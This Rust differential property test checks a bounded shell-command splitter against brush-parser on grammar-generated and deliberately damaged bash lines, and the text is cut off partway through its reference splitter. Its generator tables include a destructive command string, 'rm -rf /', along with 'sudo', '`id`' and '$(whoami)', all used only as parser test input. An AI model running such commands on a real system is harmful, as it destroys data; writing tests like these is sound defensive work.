//! The bounded shell splitter (`core/src/kinds/shell/mod.rs`) agrees with brush-parser, a full
//! bash parser, on command lines generated from a grammar; it never panics; and hostile
//! input costs linear time.
//!
//! The splitter is `pub(crate)`, so this test compiles its source file as a module of its
//! own (`#[path]`): the module is pure, with no dependency on the rest of the crate.
//!
//! # The differential property
//!
//! A grammar-driven generator (a choice stream of bytes, so proptest shrinks it towards
//! short, simple programs) writes command lines from words with quotes, escapes and
//! expansions, assignments, wrappers, redirections, `;` `&&` `||` `|` `&` newlines and
//! comments, subshells, groups, `if`/`while`/`until`/`for`/`case`, `[[ ]]`, `(( ))`,
//! functions, `$( )`, backticks, `<( )`, heredocs (quoted and not, `<<-`, in `$( )`),
//! `bash -c`, `eval` and `find -exec`. A fifth of the lines are then damaged by one edit
//! (a quote, parenthesis, brace, keyword or operator inserted or deleted), so errors are
//! compared too.
//!
//! For each line, (a) the splitter succeeds iff brush-parser parses it and the line runs a
//! command whose name is known before it runs, and (b) on success the parts equal those of
//! a reference splitter written here over brush's AST: it walks every simple command
//! (lists, pipelines, compound commands, function bodies, substitutions found by
//! `brush_parser::word::parse`, heredoc bodies by `word::parse_heredoc`), normalises words
//! from brush's word pieces, and applies the same rules (assignments, the wrappers the
//! generator uses, `-c`/`eval`/`find -exec` scripts) in its own code.
//!
//! # Excluded differences
//!
//! Some inputs are read differently by brush-parser and by bash; the splitter follows bash
//! (or refuses). The generator does not write them, and damaged lines that show them are
//! skipped (`brush_differs`):
//!
//! - `((` that is not arithmetic: brush backtracks to nested subshells (bash does too),
//!   the splitter refuses it; after `((` brush's tokenizer stays in arithmetic mode
//!   (`<((…<<EOF…))` loses its heredoc, `$(… (( x )))` its parentheses); and brush reads
//!   the tokens `( ( git ) )` as arithmetic even with blanks between the parentheses (bash:
//!   two subshells). The generator writes `$( (`, `<( (`, no `))` closing nested
//!   subshells and no `(( ))` inside substitutions;
//! - inside `$( )`, `<( )` and `( )`: brush's word parser matches parentheses textually
//!   (an unbalanced `)` or a `\$(` in a heredoc body, a `case` pattern) and brush fails on
//!   `case` inside `( )`; its tokenizer drops comments and the tabs of `<<-` bodies from
//!   a substitution's text, which the splitter keeps as written. None of those there;
//! - `|&`: brush turns it into `|` and a synthetic `2>&1` on the command before, which a
//!   part would spell (parts keep redirections); the unit tests cover `|&`;
//! - a heredoc followed by more commands on its line: both find the same parts, but brush
//!   puts the body's substitutions with the command, the splitter with the line (source
//!   order). Generated heredocs end their line;
//! - damaged lines only: blanks inside `${ }` (brush drops them), `< (cmd)` with a blank
//!   (brush reads a process substitution, bash a syntax error), extended globs (brush
//!   enables them, bash scripts do not; refused), `[[ ]]` (the splitter does not check
//!   the expression: it runs no command), `#` with `$(` (comments, above), and `<<` with
//!   `$(` (brush reads an unbalanced substitution in a heredoc body leniently; bash fails
//!   when it expands it, the splitter refuses it).
//!
//! Damaged lines are compared on whether the line is read at all: damage writes wrapper
//! options the reference's table does not know (`xargs -d…`), so there a dynamic name
//! against parts is not compared, and two different errors both deny. On every line, when
//! the reference finds a syntax error and the splitter a dynamic name, both deny: the
//! splitter reads substitutions as it lexes them and may meet the name first.

use std::time::{Duration, Instant};

use brush_parser::ast;
use brush_parser::word::{WordPiece, WordPieceWithSource};
use proptest::prelude::*;

#[allow(dead_code)]
#[path = "../../src/kinds/shell/mod.rs"]
mod splitter;

use splitter::{MAX_DEPTH, MAX_LEN, MAX_PARTS, ShellError, split};

// ---------------------------------------------------------------------------------------
// The generator
// ---------------------------------------------------------------------------------------

/// Reads choices from a byte stream; past its end every choice is 0 (the simplest).
struct Gen<'c> {
    choices: &'c [u8],
    i: usize,
    /// Inside `$( … )`, `<( … )` or `( … )`: brush's word parser matches parentheses
    /// textually, so no unbalanced `)` in heredoc bodies or `case` patterns there.
    in_subst: usize,
}

impl Gen<'_> {
    fn pick(&mut self, n: usize) -> usize {
        let b = self.choices.get(self.i).copied().unwrap_or(0);
        self.i += 1;
        usize::from(b) % n
    }

    fn one<'t>(&mut self, items: &[&'t str]) -> &'t str {
        items[self.pick(items.len())]
    }

    /// True `percent` times in a hundred; false past the end of the stream, so shrinking
    /// drops the options.
    fn chance(&mut self, percent: usize) -> bool {
        self.pick(100) >= 100 - percent
    }
}

const NAMES: &[&str] = &[
    "git", "ls", "cargo", "rm", "echo", "make", "cat", "grep", "curl",
];
const QUOTED_NAMES: &[&str] = &["'git'", "\"ls\"", "g\\it", "$'rm'", "'ca't", "ec\"ho\""];
const DYNAMIC_NAMES: &[&str] = &["$cmd", "\"$x\"rm", "r*", "/bin/r?", "{rm,x}", "${c}"];
const PLAIN_ARGS: &[&str] = &[
    "x", "-la", "--all", "a.txt", "foo/bar", "1", "a=b", "ü", "-", "status", "-rf", "/", "{}", ",",
    "%", "@", "+x", "a:b", "--x=1",
];
const QUOTED_ARGS: &[&str] = &[
    "'a b'",
    "'$HOME'",
    "'x\"y'",
    "\"a  b\"",
    "\"$HOME\"",
    "\"x\\\"y\"",
    "\"a\\\\b\"",
    "\"${x}\"",
    "\"a\\qb\"",
    "a\\ b",
    "\\$x",
    "\\'",
    "$'a\\tb'",
    "$'\\x41'",
    "$'it\\'s'",
    "''",
    "\"\"",
    "a\"b\"'c'",
    "$\"t\"",
];
const EXPANSION_ARGS: &[&str] = &[
    "$HOME",
    "${x}",
    "$1",
    "$?",
    "~/x",
    "*.rs",
    "$((1 + 2))",
    "${x:-d}",
    "a$b",
    "$#",
    "[ab]",
];
const ASSIGNMENTS: &[&str] = &[
    "FOO=1",
    "BAR=\"x y\"",
    "A=",
    "P+=x",
    "RUST_LOG=debug",
    "Q='a;b'",
];
const WRAPPERS: &[&str] = &[
    "timeout 60 ",
    "timeout -s KILL 5 ",
    "nice -n 5 ",
    "nohup ",
    "env -i FOO=1 ",
    "env ",
    "command ",
    "xargs -0 ",
    "stdbuf -o L ",
    "exec ",
    "builtin ",
    "sudo ",
    "command -v ",
    "nice ",
    "env -u X ",
];
const REDIRECTS: &[&str] = &[
    " > out.txt",
    " 2>&1",
    " >> log",
    " < in.txt",
    " &> /dev/null",
    " 2>/dev/null",
    " <<< word",
    " >out",
    " 3<>f",
];
const SEPARATORS: &[&str] = &["; ", ";", "\n", " & ", " &\n", " ;\n", " # note\n"];
const AND_OR: &[&str] = &[" && ", " || ", " &&\n", "||"];
const BODY_LINES: &[&str] = &[
    "rm -rf /",
    "plain text",
    "$(date)",
    "`id`",
    "'$(whoami)'",
    "\\$(not)",
    "${HOME}",
    "a;b|c)",
    "\"quoted\"",
    "",
    "\tEOF",
];

/// Heredoc lines inside `$( … )`: brush reads the substitution's text with its own
/// textual matching, which an unbalanced `)` or a `\$(` in a body confuses.
const BODY_LINES_IN_SUBST: &[&str] = &[
    "rm -rf /",
    "plain text",
    "$(date)",
    "`id`",
    "'$(whoami)'",
    "${HOME}",
    "\"quoted\"",
    "",
];

/// Escapes `s` for a double-quoted word whose unquoted text is `s`.
fn dquote(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        if matches!(c, '"' | '\\' | '$' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    out
}

/// Quotes a script as one word: single quotes when possible.
fn quote_script(g: &mut Gen<'_>, s: &str) -> String {
    if !s.contains('\'') && g.chance(60) {
        format!("'{s}'")
    } else {
        dquote(s)
    }
}

/// A list of and-or lists; ends with a newline when its last item is a heredoc.
fn list(g: &mut Gen<'_>, depth: usize) -> String {
    let n = 1 + g.pick(if depth > 0 { 3 } else { 2 });
    let mut out = String::new();
    for k in 0..n {
        if k > 0 && !out.ends_with('\n') {
            // brush drops comments from the text of a substitution; the splitter keeps it
            // as written.
            let sep = g.one(SEPARATORS);
            out.push_str(if g.in_subst > 0 && sep.contains('#') {
                "\n"
            } else {
                sep
            });
        }
        if g.chance(8) {
            out.push_str(&heredoc(g, depth));
        } else {
            out.push_str(&and_or(g, depth));
        }
    }
    if g.chance(10) && !out.ends_with('\n') {
        out.push_str(g.one(&[";", " &", "\n"]));
    }
    out
}

/// A list placed before a closing keyword or brace: a separator when it needs one.
fn body(g: &mut Gen<'_>, depth: usize) -> String {
    let l = list(g, depth);
    if l.ends_with('\n') || l.ends_with(';') || l.ends_with('&') {
        format!("{l} ")
    } else {
        format!("{l}{}", g.one(&["; ", "\n", " ;\n"]))
    }
}

/// A command with a heredoc, ending the line (the body follows it).
fn heredoc(g: &mut Gen<'_>, depth: usize) -> String {
    let (open, delim, quoted) = *[
        ("<<EOF", "EOF", false),
        ("<<'EOF'", "EOF", true),
        ("<<\"END\"", "END", true),
        ("<<-EOF", "EOF", false),
        ("<< X", "X", false),
        ("<<\\EOF", "EOF", true),
    ]
    .get(g.pick(6))
    .unwrap();
    // brush removes the tabs of a `<<-` body from the text of an enclosing `$( … )`; the
    // splitter keeps substitutions as written.
    let (open, delim) = if g.in_subst > 0 && open == "<<-EOF" {
        ("<<EOF", "EOF")
    } else {
        (open, delim)
    };
    let mut s = format!("{} {open}", simple(g, depth, false));
    if depth > 0 && g.chance(20) {
        // A substitution before the heredoc on the same command.
        s = format!("cat $({}) {open}", simple(g, 0, false));
    }
    s.push('\n');
    for _ in 0..g.pick(3) {
        let line = if g.in_subst > 0 {
            g.one(BODY_LINES_IN_SUBST)
        } else {
            g.one(BODY_LINES)
        };
        if open == "<<-EOF" && g.chance(50) {
            s.push('\t');
        }
        if line == "\tEOF" {
            // Not the delimiter, even with `<<-`.
            s.push_str("\tEOFX");
        } else {
            s.push_str(line);
        }
        s.push('\n');
    }
    let _ = quoted;
    if open == "<<-EOF" && g.chance(50) {
        s.push('\t');
    }
    s.push_str(delim);
    s.push('\n');
    s
}

fn and_or(g: &mut Gen<'_>, depth: usize) -> String {
    let mut out = pipeline(g, depth);
    for _ in 0..g.pick(3).saturating_sub(1) {
        out.push_str(g.one(AND_OR));
        out.push_str(&pipeline(g, depth));
    }
    out
}

fn pipeline(g: &mut Gen<'_>, depth: usize) -> String {
    let mut out = String::new();
    if g.chance(8) {
        out.push_str(g.one(&["! ", "time ", "time -p "]));
    }
    let mut prev = command(g, depth);
    out.push_str(&prev);
    for _ in 0..g.pick(3).saturating_sub(1) {
        // No `|&`: brush reads it as `|` plus a `2>&1` of its own on the command before,
        // which a part would then spell (the unit tests cover `|&`).
        let _ = &prev;
        let ops: &[&str] = &[" | ", "|", " |\n"];
        out.push_str(g.one(ops));
        prev = command(g, depth);
        out.push_str(&prev);
    }
    out
}

fn command(g: &mut Gen<'_>, depth: usize) -> String {
    if depth > 0 && g.chance(30) {
        let c = compound(g, depth - 1);
        if g.chance(15) {
            return format!("{c}{}", g.one(REDIRECTS));
        }
        return c;
    }
    match g.pick(10) {
        9 if depth > 0 => script(g, depth - 1),
        8 if g.chance(30) => redirect_only(g),
        _ => simple(g, depth, true),
    }
}

fn redirect_only(g: &mut Gen<'_>) -> String {
    g.one(&["> out", ">out 2>&1", ": > f", "FOO=1 > f"])
        .to_owned()
}

/// `bash -c SCRIPT`, `eval SCRIPT` or `find … -exec CMD ;`.
fn script(g: &mut Gen<'_>, depth: usize) -> String {
    match g.pick(4) {
        0 | 1 => {
            let opts = g.one(&["-c", "-lc", "-ec", "-x -c", "-o pipefail -c"]);
            let shell = g.one(&["bash", "sh", "/bin/sh", "zsh"]);
            let s = list(g, depth);
            let q = quote_script(g, s.trim_end());
            format!("{shell} {opts} {q}")
        }
        2 => {
            let s = list(g, depth);
            let q = quote_script(g, s.trim_end());
            format!("eval {q}")
        }
        _ => {
            let inner = simple(g, 0, false);
            let end = g.one(&[" \\;", " +", " ';'"]);
            format!("find . -name x -exec {inner}{end} -print")
        }
    }
}

fn compound(g: &mut Gen<'_>, depth: usize) -> String {
    match g.pick(13) {
        0 => {
            // brush fails on `case` inside `( … )`: counted like a substitution.
            g.in_subst += 1;
            let l = list(g, depth);
            g.in_subst -= 1;
            // brush reads the tokens `( ( … ) )` as an arithmetic command, blanks or not:
            // no `))` closing nested subshells.
            let pad = if l.ends_with(')') { " " } else { "" };
            format!("( {l}{pad})")
        }
        1 => format!("{{ {}}}", body(g, depth)),
        2 => format!("if {}then {}fi", body(g, depth), body(g, depth)),
        3 => format!(
            "if {}then {}elif {}then {}else {}fi",
            body(g, depth),
            body(g, depth),
            body(g, depth),
            body(g, depth),
            body(g, depth)
        ),
        4 => format!("while {}do {}done", body(g, depth), body(g, depth)),
        5 => format!("until {}do {}done", body(g, depth), body(g, depth)),
        6 => format!(
            "for x in {} {}; do {}done",
            arg(g, depth),
            arg(g, depth),
            body(g, depth)
        ),
        7 => format!(
            "for x{}do {}done",
            g.one(&["; ", "\n", " "]),
            body(g, depth)
        ),
        8 if g.in_subst == 0 => {
            let mut s = format!("case {} in\n", arg(g, depth));
            for k in 0..1 + g.pick(3) {
                let pat = g.one(&["a", "b|c", "*", "(d", "'e'"]);
                let l = if g.chance(20) {
                    String::new()
                } else {
                    list(g, depth)
                };
                let end = if l.ends_with('\n') { "" } else { " " };
                s.push_str(&format!("{pat}) {l}{end}{}\n", g.one(&[";;", ";&", ";;&"])));
                let _ = k;
            }
            s.push_str("esac");
            s
        }
        9 => format!(
            "[[ -n {} && {} == {} ]]",
            arg(g, depth),
            arg(g, depth),
            g.one(&["x", "'y'", "$z"])
        ),
        // brush's tokenizer loses track of `)))` closing `$( … (( … )))`.
        10 if g.in_subst == 0 => g
            .one(&["(( x + 1 ))", "((y++))", "(( (1 + 2) * 3 ))"])
            .to_owned(),
        11 => format!("f() {{ {}}}", body(g, depth)),
        _ => format!("function g {{ {}}}", body(g, depth)),
    }
}

/// A simple command; `rich` allows redirections and process substitutions.
fn simple(g: &mut Gen<'_>, depth: usize, rich: bool) -> String {
    let mut s = String::new();
    if rich && g.chance(10) {
        s.push_str(g.one(&["2>/dev/null ", "<in "]));
    }
    for _ in 0..g.pick(4).saturating_sub(2) {
        if depth > 0 && g.chance(20) {
            s.push_str(&format!("X=$({}) ", simple(g, 0, false)));
        } else {
            s.push_str(g.one(ASSIGNMENTS));
            s.push(' ');
        }
    }
    if g.chance(20) {
        s.push_str(g.one(WRAPPERS));
    }
    // Index 0 is the simplest choice everywhere: an exhausted choice stream (and shrinking)
    // gives plain programs.
    s.push_str(&match g.pick(20) {
        19 => g.one(DYNAMIC_NAMES).to_owned(),
        18 if depth > 0 => format!("$({})", simple(g, 0, false)),
        16 | 17 => g.one(QUOTED_NAMES).to_owned(),
        _ => g.one(NAMES).to_owned(),
    });
    for _ in 0..g.pick(5) {
        s.push(' ');
        if rich && depth > 0 && g.chance(5) {
            g.in_subst += 1;
            let l = list(g, depth - 1);
            g.in_subst -= 1;
            let l = l.trim_end_matches([' ', ';']);
            let pad = if l.starts_with('(') { " " } else { "" };
            s.push_str(&format!("<({pad}{l})"));
        } else {
            s.push_str(&arg(g, depth));
        }
    }
    if rich && g.chance(20) {
        s.push_str(g.one(REDIRECTS));
    }
    s
}

fn arg(g: &mut Gen<'_>, depth: usize) -> String {
    match g.pick(12) {
        0..=4 => g.one(PLAIN_ARGS).to_owned(),
        5 | 6 => g.one(QUOTED_ARGS).to_owned(),
        7 => g.one(EXPANSION_ARGS).to_owned(),
        8 => format!("{}{}", g.one(PLAIN_ARGS), g.one(QUOTED_ARGS)),
        9 | 10 if depth > 0 => {
            g.in_subst += 1;
            let inner = list(g, depth - 1);
            g.in_subst -= 1;
            let inner = inner.trim_end_matches([' ', ';']);
            // `$((` is arithmetic (see the exclusions): a subshell first needs a blank.
            let inner = if inner.starts_with('(') {
                format!(" {inner}")
            } else {
                inner.to_owned()
            };
            match g.pick(4) {
                0 => format!("$({inner})"),
                1 => format!("\"$({inner})\""),
                2 => format!("$(\n{inner}\n)"),
                _ => format!("`{}`", simple(g, 0, false)),
            }
        }
        11 if depth > 0 => {
            // The agents' commit message idiom.
            let delim = g.one(&["'EOF'", "EOF"]);
            let line = g.one(BODY_LINES_IN_SUBST);
            format!("\"$(cat <<{delim}\nfix: thing\n\n{line}\nEOF\n)\"",)
        }
        _ => g.one(PLAIN_ARGS).to_owned(),
    }
}

const DAMAGE: &[&str] = &[
    "'", "\"", "(", ")", "{", "}", ";", ";;", "|", "&", "\n", "`", "$(", "fi", "done", "then",
    "esac", "\\", "<<E", "do", "in", "!", "#",
];

/// One edit: insert or delete a syntax token at a character boundary.
fn damage(g: &mut Gen<'_>, s: &str) -> String {
    let bounds: Vec<usize> = (0..=s.len()).filter(|&i| s.is_char_boundary(i)).collect();
    let at = bounds[g.pick(bounds.len())];
    if g.chance(50) {
        let tok = g.one(DAMAGE);
        let pad = if g.chance(50) { " " } else { "" };
        format!("{}{pad}{tok}{pad}{}", &s[..at], &s[at..])
    } else {
        let end = bounds.iter().copied().find(|&e| e > at).unwrap_or(at);
        format!("{}{}", &s[..at], &s[end..])
    }
}

/// A command line, and whether it was damaged.
fn generate(choices: &[u8]) -> (String, bool) {
    let mut g = Gen {
        choices,
        i: 0,
        in_subst: 0,
    };
    let damaged = g.chance(20);
    let depth = 1 + g.pick(3);
    let line = list(&mut g, depth);
    if damaged {
        (damage(&mut g, &line), true)
    } else {
        (line, false)
    }
}

// ---------------------------------------------------------------------------------------
// The reference splitter over brush-parser's AST
// ---------------------------------------------------------------------------------------

#[derive(Debug, PartialEq, Eq)]
enum Outcome {
    Parts(Vec<String>),
    /// The text does not parse (or has no command).
    Syntax,
    /// A command name or a script is only known at run time.
    Dynamic,
}

/// A word as the reference reads it.
struct Norm {
    text: String,
    /// Has an expansion or is a pattern.
    dynamic: bool,
    /// Has an unquoted expansion or pattern: may become several words.
    multi: bool,
    /// Starts with a literal `NAME=`.
    assign: bool,
}

/// What runs inside a command's words, in source order.
enum Sub<'x> {
    /// A command substitution's text.
    Text(String),
    /// A process substitution's list.
    List(&'x ast::CompoundList),
}

/// What a command runs after itself.
enum Then {
    /// A script to split (`-c`, `eval`).
    Script(String),
    /// A part of its own (`find -exec`).
    Part(String),
}

fn options() -> brush_parser::ParserOptions {
    brush_parser::ParserOptions::default()
}

fn parse(input: &str) -> Option<ast::Program> {
    let tokens = brush_parser::tokenize_str(input).ok()?;
    brush_parser::parse_tokens(&tokens, &options()).ok()
}

/// `$'…'` decoding, for the escapes the generator writes.
fn ansi_c(raw: &str) -> String {
    let mut out = String::new();
    let mut chars = raw.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('t') => out.push('\t'),
            Some('n') => out.push('\n'),
            Some('x') => {
                let mut hex = String::new();
                while hex.len() < 2 && chars.clone().next().is_some_and(|c| c.is_ascii_hexdigit()) {
                    hex.push(chars.next().unwrap());
                }
                match u8::from_str_radix(&hex, 16) {
                    Ok(b) => out.push(char::from(b)),
                    Err(_) => out.push_str("\\x"),
                }
            }
            Some(e @ ('\\' | '\'' | '"')) => out.push(e),
            Some(e) => {
                out.push('\\');
                out.push(e);
            }
            None => out.push('\\'),
        }
    }
    out
}

/// A word's text and kind, from brush's word pieces; pushes the command substitutions it
/// contains.
fn normalize(value: &str, subs: &mut Vec<Sub<'_>>) -> Norm {
    let mut n = Norm {
        text: String::new(),
        dynamic: false,
        multi: false,
        assign: false,
    };
    let Ok(pieces) = brush_parser::word::parse(value, &options()) else {
        n.text = value.to_owned();
        n.dynamic = true;
        n.multi = true;
        return n;
    };
    if let Some(WordPiece::Text(t)) = pieces.first().map(|p| &p.piece)
        && let Some(eq) = t.find('=')
    {
        let name = t[..eq].trim_end_matches('+');
        n.assign = name
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
    }
    render(value, &pieces, false, &mut n, subs);
    n
}

fn render(
    value: &str,
    pieces: &[WordPieceWithSource],
    in_dq: bool,
    n: &mut Norm,
    subs: &mut Vec<Sub<'_>>,
) {
    for p in pieces {
        let raw = &value[p.start_index..p.end_index];
        match &p.piece {
            WordPiece::Text(s) => {
                let pattern = s.contains(['*', '?', '{']) || (s.contains('[') && s.contains(']'));
                if !in_dq && pattern {
                    n.dynamic = true;
                    n.multi = true;
                }
                n.text.push_str(s);
            }
            WordPiece::SingleQuotedText(s) => n.text.push_str(s),
            WordPiece::AnsiCQuotedText(s) => n.text.push_str(&ansi_c(s)),
            WordPiece::DoubleQuotedSequence(inner)
            | WordPiece::GettextDoubleQuotedSequence(inner) => {
                render(value, inner, true, n, subs);
            }
            WordPiece::EscapeSequence(s) => n.text.push_str(&s[1..]),
            WordPiece::TildeExpansion(_) => n.text.push_str(raw),
            WordPiece::CommandSubstitution(inner) => {
                subs.push(Sub::Text(inner.clone()));
                n.expansion(raw, in_dq);
            }
            WordPiece::BackquotedCommandSubstitution(inner) => {
                // brush unescapes `` \` ``; bash also unescapes `\\` and `\$`.
                subs.push(Sub::Text(inner.replace("\\\\", "\\").replace("\\$", "$")));
                n.expansion(raw, in_dq);
            }
            WordPiece::ParameterExpansion(_) | WordPiece::ArithmeticExpression(_) => {
                n.expansion(raw, in_dq);
            }
        }
    }
}

impl Norm {
    fn expansion(&mut self, raw: &str, in_dq: bool) {
        self.text.push_str(raw);
        self.dynamic = true;
        self.multi |= !in_dq;
    }
}

/// The wrappers the generator writes: their options (word, how many words it spans), the
/// positional words before the command, and whether `NAME=VALUE` words may follow.
#[allow(clippy::type_complexity)]
fn wrapper(name: &str) -> Option<(&'static [(&'static str, usize)], usize, bool)> {
    Some(match name {
        "timeout" => (&[("-s", 2), ("--preserve-status", 1)], 1, false),
        "nice" => (&[("-n", 2)], 0, false),
        "nohup" | "builtin" | "exec" | "command" => (&[], 0, false),
        "env" => (&[("-i", 1), ("-", 1), ("-u", 2)], 0, true),
        "xargs" => (&[("-0", 1)], 0, false),
        "stdbuf" => (&[("-o", 2)], 0, false),
        "time" => (&[("-p", 1)], 0, false),
        _ => return None,
    })
}

/// How many words after `words[i]` (a wrapper) are its own; `Ok(None)` keeps it.
fn wrapper_words(words: &[Norm], i: usize) -> Result<Option<usize>, Outcome> {
    let base = words[i].text.rsplit('/').next().unwrap();
    let Some((opts, positionals, assigns)) = wrapper(base) else {
        return Ok(None);
    };
    if base == "command" && words.get(i + 1).is_some_and(|w| w.text == "-v") {
        return Ok(None);
    }
    let mut k = i + 1;
    while let Some(w) = words.get(k) {
        if assigns && w.assign {
            break;
        }
        if w.dynamic {
            return Err(Outcome::Dynamic);
        }
        // A short option's value may be attached: `-sKILL`, `-n5`.
        let attached = opts.iter().any(|(o, span)| {
            *span == 2 && o.len() == 2 && w.text.len() > 2 && w.text.starts_with(o)
        });
        if attached {
            k += 1;
        } else if let Some((_, span)) = opts.iter().find(|(o, _)| *o == w.text) {
            for v in words.iter().skip(k + 1).take(span - 1) {
                if v.multi {
                    return Err(Outcome::Dynamic);
                }
            }
            k += span;
        } else if w.text.starts_with('-') && w.text.len() > 1 {
            return Ok(None);
        } else {
            break;
        }
    }
    while assigns
        && words
            .get(k)
            .is_some_and(|w| w.assign || (!w.dynamic && w.text[1..].contains('=')))
    {
        if words[k].multi {
            return Err(Outcome::Dynamic);
        }
        k += 1;
    }
    for _ in 0..positionals {
        match words.get(k) {
            Some(w) if w.dynamic => return Err(Outcome::Dynamic),
            Some(_) => k += 1,
            None => return Ok(None),
        }
    }
    Ok((k < words.len()).then_some(k - i - 1))
}

/// A simple command's words without its wrappers, and what it runs after itself.
fn command_words(words: &[Norm]) -> Result<(Vec<String>, Vec<Then>), Outcome> {
    let mut i = 0;
    loop {
        if words[i].dynamic {
            return Err(Outcome::Dynamic);
        }
        match wrapper_words(words, i)? {
            Some(n) => i += 1 + n,
            None => break,
        }
    }
    let cmd = &words[i..];
    let texts: Vec<String> = cmd.iter().map(|w| w.text.clone()).collect();
    let base = texts[0].rsplit('/').next().unwrap();
    let mut then = Vec::new();
    if ["sh", "bash", "zsh", "dash", "ksh"].contains(&base) {
        let mut k = 1;
        let mut c = false;
        while let Some(w) = cmd.get(k) {
            if w.dynamic {
                return Err(Outcome::Dynamic);
            }
            if !w.text.starts_with('-') {
                break;
            }
            c |= w.text.contains('c');
            k += if w.text == "-o" { 2 } else { 1 };
        }
        if c && k < cmd.len() {
            then.push(Then::Script(texts[k].clone()));
        }
    } else if base == "eval" {
        if cmd[1..].iter().any(|w| w.dynamic) {
            return Err(Outcome::Dynamic);
        }
        then.push(Then::Script(texts[1..].join(" ")));
    } else if base == "find"
        && let Some(at) = texts.iter().position(|t| t == "-exec")
    {
        let end = texts[at..]
            .iter()
            .position(|t| t == ";" || t == "+")
            .map_or(texts.len(), |e| at + e);
        if end > at + 1 {
            let (inner, inner_then) = command_words(&cmd[at + 1..end])?;
            then.push(Then::Part(inner.join(" ")));
            then.extend(inner_then);
        }
    }
    Ok((texts, then))
}

struct Reference<'i> {
    /// The text whose AST is walked (process substitutions are sliced from it).
    input: &'i str,
    parts: Vec<String>,
}

impl Reference<'_> {
    fn run(input: &str) -> Result<Vec<String>, Outcome> {
        let program = parse(input).ok_or(Outcome::Syntax)?;
        let mut r = Reference {
            input,
            parts: Vec::new(),
        };
        for c in &program.complete_commands {
            r.list(c)?;
        }
        Ok(r.parts)
    }

    fn subs(&mut self, subs: Vec<Sub<'_>>) -> Result<(), Outcome> {
        for s in subs {
            match s {
                Sub::Text(t) => {
                    let parts = Reference::run(&t)?;
                    self.parts.extend(parts);
                }
                Sub::List(l) => self.list(l)?,
            }
        }
        Ok(())
    }

    fn list(&mut self, l: &ast::CompoundList) -> Result<(), Outcome> {
        for ast::CompoundListItem(and_or, _) in &l.0 {
            self.pipeline(&and_or.first)?;
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline(p)?,
                }
            }
        }
        Ok(())
    }

    fn pipeline(&mut self, p: &ast::Pipeline) -> Result<(), Outcome> {
        for c in &p.seq {
            self.command(c)?;
        }
        Ok(())
    }

    fn command(&mut self, c: &ast::Command) -> Result<(), Outcome> {
        match c {
            ast::Command::Simple(s) => self.simple(s),
            ast::Command::Compound(c, r) => {
                self.compound(c)?;
                self.redirect_list(r.as_ref())
            }
            ast::Command::Function(f) => {
                self.compound(&f.body.0)?;
                self.redirect_list(f.body.1.as_ref())
            }
            ast::Command::ExtendedTest(t, r) => {
                let mut subs = Vec::new();
                test_words(&t.expr, &mut subs);
                self.subs(subs)?;
                self.redirect_list(r.as_ref())
            }
        }
    }

    /// A word outside a simple command: only its substitutions count.
    fn loose(&mut self, w: &ast::Word) -> Result<(), Outcome> {
        let mut subs = Vec::new();
        normalize(&w.value, &mut subs);
        self.subs(subs)
    }

    fn compound(&mut self, c: &ast::CompoundCommand) -> Result<(), Outcome> {
        match c {
            ast::CompoundCommand::Arithmetic(_) => Ok(()),
            ast::CompoundCommand::ArithmeticForClause(f) => self.list(&f.body.list),
            ast::CompoundCommand::BraceGroup(b) => self.list(&b.list),
            ast::CompoundCommand::Subshell(s) => self.list(&s.list),
            ast::CompoundCommand::ForClause(f) => {
                for w in f.values.iter().flatten() {
                    self.loose(w)?;
                }
                self.list(&f.body.list)
            }
            ast::CompoundCommand::CaseClause(c) => {
                self.loose(&c.value)?;
                for item in &c.cases {
                    for p in &item.patterns {
                        self.loose(p)?;
                    }
                    if let Some(l) = &item.cmd {
                        self.list(l)?;
                    }
                }
                Ok(())
            }
            ast::CompoundCommand::IfClause(i) => {
                self.list(&i.condition)?;
                self.list(&i.then)?;
                for e in i.elses.iter().flatten() {
                    if let Some(c) = &e.condition {
                        self.list(c)?;
                    }
                    self.list(&e.body)?;
                }
                Ok(())
            }
            ast::CompoundCommand::WhileClause(w) | ast::CompoundCommand::UntilClause(w) => {
                self.list(&w.0)?;
                self.list(&w.1.list)
            }
            ast::CompoundCommand::Coprocess(_) => Err(Outcome::Syntax),
        }
    }

    fn redirect_list(&mut self, r: Option<&ast::RedirectList>) -> Result<(), Outcome> {
        let mut subs = Vec::new();
        for red in r.iter().flat_map(|r| r.0.iter()) {
            self.redirect(red, &mut subs)?;
        }
        self.subs(subs)
    }

    /// A redirection's text, as a part spells it; pushes what it runs.
    fn redirect<'x>(
        &self,
        r: &'x ast::IoRedirect,
        subs: &mut Vec<Sub<'x>>,
    ) -> Result<String, Outcome> {
        let fd = |n: &Option<i32>| n.map(|n| n.to_string()).unwrap_or_default();
        Ok(match r {
            ast::IoRedirect::File(n, kind, target) => {
                let op = match kind {
                    ast::IoFileRedirectKind::Read => "<",
                    ast::IoFileRedirectKind::Write => ">",
                    ast::IoFileRedirectKind::Append => ">>",
                    ast::IoFileRedirectKind::ReadAndWrite => "<>",
                    ast::IoFileRedirectKind::Clobber => ">|",
                    ast::IoFileRedirectKind::DuplicateInput => "<&",
                    ast::IoFileRedirectKind::DuplicateOutput => ">&",
                };
                let t = match target {
                    ast::IoFileRedirectTarget::Filename(w)
                    | ast::IoFileRedirectTarget::Duplicate(w) => normalize(&w.value, subs).text,
                    ast::IoFileRedirectTarget::Fd(n) => n.to_string(),
                    ast::IoFileRedirectTarget::ProcessSubstitution(kind, s) => {
                        subs.push(Sub::List(&s.list));
                        self.process_text(kind, s)
                    }
                };
                // `< <(a)` keeps its space: `<<(a)` would read as a heredoc.
                let gap = if t.starts_with(['<', '>']) { " " } else { "" };
                format!("{}{op}{gap}{t}", fd(n))
            }
            ast::IoRedirect::HereDocument(n, h) => {
                let op = if h.remove_tabs { "<<-" } else { "<<" };
                let text = format!("{}{op}{}", fd(n), normalize(&h.here_end.value, subs).text);
                if h.requires_expansion {
                    let pieces = brush_parser::word::parse_heredoc(&h.doc.value, &options())
                        .map_err(|_| Outcome::Syntax)?;
                    let mut ignored = Norm {
                        text: String::new(),
                        dynamic: false,
                        multi: false,
                        assign: false,
                    };
                    render(&h.doc.value, &pieces, true, &mut ignored, subs);
                }
                text
            }
